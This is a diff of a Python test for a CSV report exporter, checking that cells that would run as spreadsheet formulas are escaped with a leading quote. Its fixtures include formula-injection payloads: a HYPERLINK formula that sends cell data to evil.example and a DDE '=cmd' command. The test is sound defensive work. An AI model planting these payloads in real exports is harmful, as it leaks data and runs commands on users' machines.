@@ -248,21 +248,23 @@ def test_report_csv_cells_that_would_run_as_formulas_get_a_quote() -> None:
             email_note="\r=1+1",
         ),
     ]
-    text = to_csv(build_report({"id": 1, "channel": "both"}, rows))
+    data = to_csv(build_report({"id": 1, "channel": "both"}, rows))
+    assert data.startswith("\ufeffТелефон;Лицевой счёт;".encode())
+    text = data.decode("utf-8-sig")
     lines = text.split("\r\n")  # not splitlines(): a CR inside a quoted cell ends no line
     assert lines[1] == (
-        '79130000001,"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Оплатить"")",'
-        "notified,true,1,1,false,'+7 913 000-00-01,,,0,0,,,,"
+        '7 (913) 000-00-01;"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Оплатить"")";'
+        "оповещён;да;1;1;нет;'+7 913 000-00-01;;;0;0;;;;"
     )
     assert lines[2] == (
-        ",'-2+3,,,0,0,false,,'@sum@example.ru,failed,0,0,550,'=cmd|' /C calc'!A0,"
-        "'\t=1+1,\"'\r=1+1\""
+        ";'-2+3;;;0;0;;;'@sum@example.ru;не доставлено;0;0;550;'=cmd|' /C calc'!A0;"
+        "'\t=1+1;\"'\r=1+1\""
     )
-    assert "total_contacts,1" in lines
+    assert lines[3:] == [""], "rows only: the totals are in the XLSX and the JSON"
     # read back as a spreadsheet would: the CR stays inside its cell, no row starts with "="
-    read = list(csv.reader(io.StringIO(text, newline="")))
+    read = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
     assert read[2][-1] == "'\r=1+1"
-    assert [row[0] for row in read[:3]] == ["phone", "79130000001", ""]
+    assert [row[0] for row in read] == ["Телефон", "7 (913) 000-00-01", ""]
 
 
 @pytest.mark.parametrize(
